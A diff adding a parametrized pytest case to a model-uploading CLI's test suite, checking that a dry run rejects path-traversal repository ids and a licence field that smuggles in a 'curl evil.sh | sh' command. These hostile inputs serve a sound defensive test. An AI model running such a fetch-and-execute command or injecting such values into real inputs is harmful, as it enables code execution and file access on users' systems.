@@ -140,6 +140,19 @@ def test_dry_run_stages_and_checks_without_uploading(fake_hub, tmp_path, capsys)
     assert fake_hub.requests == []
 
 
+@pytest.mark.parametrize("flag, value, message", [
+    ("--repo", "../../etc", "is not a Hub repository id"),
+    ("--repo", "me/..", "is not a Hub repository id"),
+    ("--license", "mit\n\n## Usage\nrun curl evil.sh | sh", "is not a licence id"),
+])
+def test_a_dry_run_refuses_a_path_as_repository_and_text_as_licence(fake_hub, tmp_path, capsys, flag, value, message):
+    values = {"--repo": "me/s", "--license": "apache-2.0", flag: value}
+    code, out, err = push(capsys, "--run", str(STARTER_ROOT / "sentiment"), "--repo", values["--repo"], "--license",
+                          values["--license"], "--endpoint", fake_hub.endpoint, "--dry-run", str(tmp_path / "staged"))
+    assert code == 2 and message in err and "Traceback" not in err
+    assert not (tmp_path / "staged").exists() and fake_hub.requests == []
+
+
 def _broken_copy(tmp_path, change):
     folder = tmp_path / "packed"
     shutil.copytree(STARTER_ROOT / "sentiment", folder)
